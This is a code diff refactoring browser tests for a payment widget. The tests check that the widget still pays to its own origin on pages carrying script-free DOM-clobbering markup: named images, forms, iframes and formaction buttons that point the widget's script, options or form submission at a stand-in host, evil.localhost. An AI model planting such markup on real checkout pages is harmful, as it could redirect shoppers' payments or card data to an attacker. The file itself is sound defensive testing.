@@ -3,44 +3,38 @@ import words from '#locales/en' with { type: 'json' };
 import { cardForm } from '../../pages/card-form.ts';
 import { createOffer, storedForm } from '../../pages/stored-form.ts';
 import { expect, test } from '../../support/fixtures.ts';
+import { holdRequests } from '../../support/hold-requests.ts';
+import { countPayments } from '../../support/ledger.ts';
 
 /*
  * Markup without scripts, as a shopper's comment or an advertisement could bring it into a page. Named elements
  * replace properties of `window`, `document` and forms (https://html.spec.whatwg.org/#named-access-on-the-window-object).
  */
 
-type Attack = {
-  readonly markup: string;
-  /** Before the widget's script, or inside the form that the widget replaces. */
-  readonly isInside?: boolean;
-};
-
 /** A blocked port: the browser starts requests to it, and none of them is sent. */
 const evil = 'http://evil.localhost:9/';
 
 const scriptUrl = `${evil}v1/paymentWidgets.js`;
 
-const attacks: Readonly<Record<string, readonly Attack[]>> = {
+/** `before`: markup before the widget's script; `inside`: inside the form that the widget replaces. */
+const attacks: Readonly<Record<string, readonly { before?: string; inside?: string }[]>> = {
   'elements named like properties of the document': [
-    { markup: `<img name="currentScript" src="${scriptUrl}">` },
-    { markup: `<form name="currentScript"><input name="src" value="${scriptUrl}"></form>` },
+    { before: `<img name="currentScript" src="${scriptUrl}">` },
+    { before: `<form name="currentScript"><input name="src" value="${scriptUrl}"></form>` },
   ],
   'elements and frames named wpwlOptions': [
-    { markup: `<a id="wpwlOptions" href="${evil}">options</a>` },
+    { before: `<a id="wpwlOptions" href="${evil}">options</a>` },
     {
-      markup: `<form id="wpwlOptions"><input name="baseUrl" value="${evil}">
+      before: `<form id="wpwlOptions"><input name="baseUrl" value="${evil}">
         <input name="shopperResultUrl" value="${evil}"><input name="paymentTarget" value="evil"></form>`,
     },
-    {
-      markup: `<a id="wpwlOptions"></a><a id="wpwlOptions" name="baseUrl" href="${evil}"></a>`,
-    },
-    { markup: `<iframe name="wpwlOptions" srcdoc="<a id=baseUrl href=${evil}></a>"></iframe>` },
-    { markup: `<iframe name="wpwlOptions" src="data:text/html,elsewhere"></iframe>` },
+    { before: `<a id="wpwlOptions"></a><a id="wpwlOptions" name="baseUrl" href="${evil}"></a>` },
+    { before: `<iframe name="wpwlOptions" srcdoc="<a id=baseUrl href=${evil}></a>"></iframe>` },
+    { before: `<iframe name="wpwlOptions" src="data:text/html,elsewhere"></iframe>` },
   ],
   'buttons with a formaction': [
     {
-      markup: `<button formaction="${evil}">Pay now</button><input type="image" formaction="${evil}">`,
-      isInside: true,
+      inside: `<button formaction="${evil}">Pay now</button><input type="image" formaction="${evil}">`,
     },
   ],
 };
@@ -76,124 +70,102 @@ const namesOf = async (
   return names;
 };
 
-const createImages = async (browser: Browser): Promise<string> => {
-  const names = await namesOf(browser, documentInterfaces);
-  return names.map((name) => `<img name="${name}">`).join('');
-};
+const imagesOf = async (browser: Browser): Promise<string> =>
+  (await namesOf(browser, documentInterfaces)).map((name) => `<img name="${name}">`).join('');
 
-const createInputs = async (browser: Browser): Promise<string> => {
-  const names = await namesOf(browser, formInterfaces);
-  return names.map((name) => `<input type="hidden" name="${name}" value="x">`).join('');
-};
-
-const putInside = (form: string, markup: string): string =>
-  form.replace('></form>', `>${markup}</form>`);
+const inputsOf = async (browser: Browser): Promise<string> =>
+  (await namesOf(browser, formInterfaces))
+    .map((name) => `<input type="hidden" name="${name}" value="x">`)
+    .join('');
 
 test.describe('The widget', () => {
   // The images are requested from there.
   test.use({ allowedHosts: [new URL(evil).host] });
 
   for (const [what, rows] of Object.entries(attacks))
-    test(
-      `pays to its own origin on a page with ${what}`,
-      { tag: '@firefox-full' },
-      async ({ page, sandbox }) => {
-        const requested: string[] = [];
-        page.on('request', (request) => {
-          if (request.resourceType() !== 'image') requested.push(request.url());
-        });
-        for (const { markup, isInside = false } of rows) {
-          await test.step(markup, async () => {
-            const checkoutId = await sandbox.createCheckout();
-            const [before, inside] = isInside ? ['', markup] : [markup, ''];
-            await sandbox.merchantPage(page, {
-              body: `${before}<script src="${sandbox.scriptAddress(checkoutId)}"></script>
-              <form action="/result?order=7" class="paymentWidgets" data-brands="VISA">${inside}</form>`,
-            });
-            await fillAndPay(page);
-
-            const returned = await sandbox.result(page);
-            expect(returned.get('order')).toBe('7');
-            expect(returned.get('resourcePath')).toBe(`/v1/checkouts/${checkoutId}/payment`);
-            expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
-          });
-        }
-        expect(requested.filter((url) => url.startsWith(evil))).toEqual([]);
-      },
-    );
-
-  test(
-    'pays on a page with images named like every property of the document',
-    { tag: '@firefox' },
-    async ({ page, browser, sandbox }) => {
-      const checkoutId = await sandbox.createCheckout();
-      const { head = '', body = '' } = sandbox.snippet({ checkoutId });
-      await sandbox.merchantPage(page, { head, body: (await createImages(browser)) + body });
-      await fillAndPay(page);
-      await sandbox.result(page);
-      expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
-    },
-  );
-
-  test(
-    'challenges the shopper in a form with inputs named like all of its properties',
-    { tag: '@firefox' },
-    async ({ page, browser, sandbox }) => {
-      const inputs = await createInputs(browser);
-      const checkoutId = await sandbox.createCheckout();
-      const options = { paymentTarget: 'iframe' };
-      const { head = '', body = '' } = sandbox.snippet({ checkoutId, options });
-      // A form around the widget's own, as scripts of shops make it.
-      const move = `document.querySelector('#place').append(document.querySelector('.paymentWidgets'));`;
-      await sandbox.merchantPage(page, {
-        body: `<form>${inputs}<div id="place"></div></form>
-          ${putInside(body, inputs)}<script>${move}</script>${head}`,
+    test(`pays to its own origin on a page with ${what} @firefox-full`, async ({
+      page,
+      sandbox,
+    }) => {
+      const requested: string[] = [];
+      page.on('request', (request) => {
+        if (request.resourceType() !== 'image') requested.push(request.url());
       });
-      await fillAndPay(page, '4200000000000042');
-      const bank = page.frameLocator('iframe.wpwl-target');
-      await bank.getByRole('button', { name: 'Confirm payment' }).press('Enter');
-      await sandbox.result(page);
-      expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
-    },
-  );
+      for (const { before = '', inside = '' } of rows)
+        await test.step(before + inside, async () => {
+          const checkoutId = await sandbox.createCheckout();
+          await sandbox.merchantPage(page, {
+            body: `${before}<script src="${sandbox.scriptAddress(checkoutId)}"></script>
+              <form action="/result?order=7" class="paymentWidgets" data-brands="VISA">${inside}</form>`,
+          });
+          await fillAndPay(page);
+          const returned = await sandbox.result(page);
+          expect(returned.get('order')).toBe('7');
+          expect(returned.get('resourcePath')).toBe(`/v1/checkouts/${checkoutId}/payment`);
+          expect(await countPayments(sandbox, checkoutId)).toBe(1);
+        });
+      expect(requested.filter((url) => url.startsWith(evil))).toEqual([]);
+    });
+
+  test('pays on a page with images named like every property of the document @firefox', async ({
+    page,
+    browser,
+    shop,
+  }) => {
+    await shop.open({ before: await imagesOf(browser) });
+    await fillAndPay(page);
+    await shop.expectPaid();
+  });
+
+  test('challenges the shopper in a form with inputs named like all of its properties @firefox', async ({
+    page,
+    browser,
+    sandbox,
+    shop,
+  }) => {
+    const inputs = await inputsOf(browser);
+    const checkoutId = await sandbox.createCheckout();
+    const options = { paymentTarget: 'iframe' };
+    const { head = '', body = '' } = sandbox.snippet({ checkoutId, options });
+    // A form around the widget's own, as scripts of shops make it.
+    const move = `document.querySelector('#place').append(document.querySelector('.paymentWidgets'));`;
+    await sandbox.merchantPage(page, {
+      body: `<form>${inputs}<div id="place"></div></form>
+        ${body.replace('></form>', `>${inputs}</form>`)}<script>${move}</script>${head}`,
+    });
+    await fillAndPay(page, '4200000000000042');
+    const bank = page.frameLocator('iframe.wpwl-target');
+    await bank.getByRole('button', { name: 'Confirm payment' }).press('Enter');
+    await shop.result();
+    expect(await countPayments(sandbox, checkoutId)).toBe(1);
+  });
 
   test('leaves a form in use where it is, on a page with an image named activeElement', async ({
     page,
     sandbox,
+    shop,
   }) => {
     const checkoutId = await createOffer(sandbox, ['card']);
-    const { head = '', body = '' } = sandbox.snippet({ checkoutId });
-    let release = (): void => {};
-    const released = new Promise<void>((resolve) => (release = resolve));
-    await page.route(/\/widget$/, async (route) => {
-      await released;
-      await route.continue();
-    });
-    await sandbox.merchantPage(page, { head, body: `<img name="activeElement">${body}` });
-    const card = cardForm(page);
-    await card.number.pressSequentially('4200');
+    const release = await holdRequests(page, /\/widget$/);
+    await shop.open({ checkoutId, before: '<img name="activeElement">' });
+    await shop.form.number.pressSequentially('4200');
     const answered = page.waitForResponse(/\/widget$/);
     release();
     await answered;
     await expect(page.getByText(words.testMode).first()).toBeVisible();
-    await expect(card.number).toBeVisible();
+    await expect(shop.form.number).toBeVisible();
     await expect(storedForm(page).container).toHaveCount(0);
   });
 
   test('unloads a form with inputs named like all of its properties', async ({
     page,
     browser,
-    sandbox,
+    shop,
   }) => {
-    const errors: string[] = [];
-    page.on('pageerror', ({ message }) => void errors.push(message));
-    const inputs = await createInputs(browser);
-    const checkoutId = await sandbox.createCheckout();
-    const { head = '', body = '' } = sandbox.snippet({ checkoutId });
-    await sandbox.merchantPage(page, { head, body: putInside(body, inputs) });
-    await cardForm(page).number.fill('4200');
+    await shop.open({ inside: await inputsOf(browser) });
+    await shop.form.number.fill('4200');
     await page.evaluate('wpwl.unload()');
     await expect(page.locator('.wpwl-container, .wpwl-form')).toHaveCount(0);
-    expect(errors).toEqual([]);
+    expect(shop.pageErrors).toEqual([]);
   });
 });
